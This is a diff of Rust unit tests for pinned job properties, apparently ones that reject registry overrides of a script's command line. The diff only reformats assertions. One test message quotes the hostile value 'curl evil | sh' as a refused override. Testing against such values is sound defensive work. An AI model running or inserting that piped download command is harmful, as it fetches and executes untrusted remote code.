@@ -157,7 +157,10 @@ mod tests {
             "script.command.line: the registry has 'curl evil | sh', the job file '/opt/job.sh'"
         );
         // Removed from the registry: refused too, the job file's runs.
-        assert_eq!(pin.apply(&BTreeMap::new()).props.get(prop::SCRIPT_COMMAND_LINE).map(String::as_str), Some("/opt/job.sh"));
+        assert_eq!(
+            pin.apply(&BTreeMap::new()).props.get(prop::SCRIPT_COMMAND_LINE).map(String::as_str),
+            Some("/opt/job.sh")
+        );
     }
 
     #[test]
@@ -184,7 +187,8 @@ mod tests {
 
     #[test]
     fn changes_of_pinned_properties() {
-        let old = props(&[(prop::DATAFLOW_FETCH, "f"), (prop::DATAFLOW_PROCESS, "p"), (prop::STREAMING_PROCESS, "true")]);
+        let old =
+            props(&[(prop::DATAFLOW_FETCH, "f"), (prop::DATAFLOW_PROCESS, "p"), (prop::STREAMING_PROCESS, "true")]);
         let mut new = old.clone();
         new.insert(prop::STREAMING_PROCESS.into(), "false".into());
         assert!(changed_pinned(&JobType::Dataflow, &old, &new).is_empty());
